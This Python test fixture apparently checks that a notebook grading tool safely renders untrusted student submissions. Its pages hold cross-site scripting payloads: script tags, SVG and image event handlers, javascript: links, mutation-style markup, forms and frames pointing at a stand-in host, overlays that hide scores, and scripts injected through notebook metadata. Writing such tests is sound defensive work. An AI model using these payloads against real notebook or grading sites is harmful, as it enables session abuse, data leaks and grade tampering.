"""Submissions that try to do something in the browser of whoever reads them, or to hide what is on the page."""

from dataclasses import dataclass, field
from itertools import count
from typing import Any

NUMBERS = count()
ELSEWHERE = "http://planted.example"
SCRIPT = f"document.title = `planted`; new Image().src = `{ELSEWHERE}/script`"
COVER = "position: fixed; top: 0; left: 0; width: 4000px; height: 4000px; z-index: 99999; background: white"


@dataclass(frozen=True)
class Page:
    """What somebody hands in."""

    name: str
    cells: tuple[Any, ...] = ()
    answer: str = "All is well."
    files: dict[str, bytes] = field(default_factory=dict)


def cell(kind: str, source: str, **more: Any) -> Any:
    """Return a cell."""
    return {"id": f"cell-{next(NUMBERS)}", "cell_type": kind, "metadata": {}, "source": source, **more}


def output(metadata: dict[str, Any] | None = None, /, **data: str) -> Any:
    """Return a cell with an output of kinds, of whose names the first `_` stands for the stroke."""
    kinds = {kind.replace("_", "/", 1): text for kind, text in data.items()}
    return crooked(outputs=[{"output_type": "display_data", "data": kinds, "metadata": metadata or {}}])


def html(text: str) -> Any:
    """Return a cell that shows HTML."""
    return output(text_html=text)


def crooked(**values: Any) -> Any:
    """Return a cell of code whose values are not what they should be."""
    return {**cell("code", "show()", outputs=[], execution_count=None), **values}


def script(kind: str = "") -> str:
    """Return a script in HTML."""
    return f"<script {kind}>{SCRIPT}</script>"


PAGES = (
    Page("a script in HTML", (html(script()), html(script("type=module")), html(f"<scr<script>ipt>{SCRIPT}</script>"))),
    Page("a script as an output", (output(**{"application_javascript": SCRIPT}),)),
    Page("a script in a drawing", (output(**{"image_svg+xml": f"<svg onload='{SCRIPT}'>{script()}</svg>"}),)),
    Page("a drawing in HTML", (html(f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'),)),
    Page("markup that has another meaning inside a formula", (html(
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={SCRIPT}&gt;">'
    ),)),
    Page("handlers", (html(f'<img src="x:" onerror="{SCRIPT}"><details open ontoggle="{SCRIPT}">x</details>'),)),
    Page("a handler that nbgrader's page has", (html('<p onclick="toggle_name(true);">x</p>'),)),
    Page("links", answer=(
        f"[x](javascript:{SCRIPT}) <a href='&#106;avascript:{SCRIPT}'>y</a> <a href=/hub/logout>z</a>"
    )),
    Page("a written answer with markup", answer=f'</div></div>{script()}<img src="x:" onerror="{SCRIPT}">'),
    Page("another page at once", (html(f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/refresh">'),)),
    Page("another base", (html(f'<base href="{ELSEWHERE}/">'),)),
    Page("a form", (html(
        f'<form id=f action="{ELSEWHERE}/form" method=post><input name=a autofocus onfocus="f.submit()">'
        f'<button formaction="javascript:{SCRIPT}">Full credit</button></form>'
    ),)),
    Page("frames", (html(
        f'<iframe srcdoc="{script()}"></iframe><iframe src="{ELSEWHERE}/frame"></iframe>'
        f'<object data="{ELSEWHERE}/object"></object><embed src="{ELSEWHERE}/embed">'
    ),)),
    Page("a frame that nbconvert makes", (output({"text/html": {"isolated": True}}, text_html=script()),)),
    Page("what is loaded from elsewhere", (html(
        f'<img src="{ELSEWHERE}/image"><link rel=stylesheet href="{ELSEWHERE}/css"><video src="{ELSEWHERE}/video">'
        f'</video><p style="background: url({ELSEWHERE}/background)">x</p><img src="/hub/logout">'
    ),)),
    Page("what Markdown loads", answer=f"![x]({ELSEWHERE}/markdown) ![y](/hub/logout) ![z](../../gradebook)"),
    Page("style that hides the score", (html("<style>.score, nav { display: none !important } </style>"),), answer=(
        "<style>input { visibility: hidden } .panel-heading { position: fixed; top: -99px }</style>All is well."
    )),
    Page("style that covers the page", (html(f'<div style="{COVER}">x</div>'),), f'<div style="{COVER}">x</div>'),
    Page("classes that cover the page", (html(
        '<div class="modal-backdrop in">x</div><div class="navbar-fixed-top" style="height: 4000px">y</div>'
    ),)),
    Page("names of score boxes", (html('<p id="answer">x</p><input id="answer" class="score" value="3">'),),
         answer='# answer\n\n<img name="cookie"><p id="submission_id">x</p>All is well.'),
    Page("formulas", (output(text_latex=f"$\\href{{javascript:{SCRIPT}}}{{x}}$</div>{script()}"),),
         answer=f"$\\style{{{COVER}}}{{x}}$ $\\class{{modal-backdrop in}}{{y}}$ $$</p>{script()}$$ All is well."),
    Page("values that are no numbers", (
        crooked(execution_count=f"</div>{script()}"),
        crooked(outputs=[{"output_type": "display_data", "data": {"image/png": f'"><img src=x: onerror="{SCRIPT}">'},
                          "metadata": {"image/png": {"width": f"1 onload={SCRIPT}", "height": script()}}}]),
        crooked(metadata={"nbgrader": {"grade_id": f'"></a>{script()}', "grade": True, "points": script()}}),
        crooked(id=f'"></div>{script()}', metadata={"tags": [script()]}),
    )),
    Page("a widget", (output(**{"application_vnd.jupyter.widget-view+json": f"</script>{script()}"}),)),
    Page("a raw cell", (cell("raw", script(), metadata={"raw_mimetype": "text/html"}),)),
    Page("what is printed", (crooked(outputs=[
        {"output_type": "stream", "name": "stdout", "text": f"</pre></div>{script()}"},
        {"output_type": "error", "ename": script(), "evalue": script(), "traceback": [f"</pre>{script()}"]},
    ]),)),
    Page("an attachment", (cell("markdown", "![x](attachment:a.png)", attachments={
        "a.png": {"image/svg+xml": f"<svg onload='{SCRIPT}'/>", f'x" onerror="{SCRIPT}': "a"},
    }),)),
    Page("files beside it", (html('<img src="drawing.svg">'),), files={
        "drawing.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"/>'.encode(),
        "page.html": script().encode(), "next.xhtml": script().encode(),
    }),
)  # fmt: skip
